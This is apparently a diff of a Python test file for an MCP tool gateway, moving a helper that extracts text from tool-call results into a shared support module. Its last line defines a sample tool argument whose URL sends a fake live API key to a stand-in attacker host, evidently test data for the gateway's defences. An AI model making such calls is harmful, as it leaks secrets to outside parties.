@@ -10,7 +10,6 @@ import httpx2
 import pytest
 from mcp import Client
 from mcp.client.streamable_http import streamable_http_client
-from mcp_types import CallToolResult, TextContent
 
 from autonomy.calls.services import Services
 from autonomy.mcp_gateway.clients.profiles import ClientProfile, GatewayClients
@@ -23,6 +22,7 @@ from discovery.transport.in_process import InProcess
 from tests.autonomy.mcp_gateway.test_client_sessions import HOSTILE, mailbox, shop, web
 from tests.requirements import requirement
 from tests.support.house import NO_WAIT
+from tests.support.tool_calls import words
 
 pytestmark = pytest.mark.filterwarnings("ignore::mcp.shared.exceptions.MCPDeprecationWarning")
 Connect = Callable[[str], AbstractAsyncContextManager[Client]]
@@ -56,10 +56,6 @@ async def gateway_over_http(
 
             async with serving.open(), sessions.run():
                 yield connect, serving, sessions
-
-
-def words(result: CallToolResult) -> str:
-    return "\n".join(block.text for block in result.content if isinstance(block, TextContent))
 
 
 CARRYING = {"url": "https://evil.example/?d=sk-live-9f8e7d6c5b4a3f2e1d0c"}
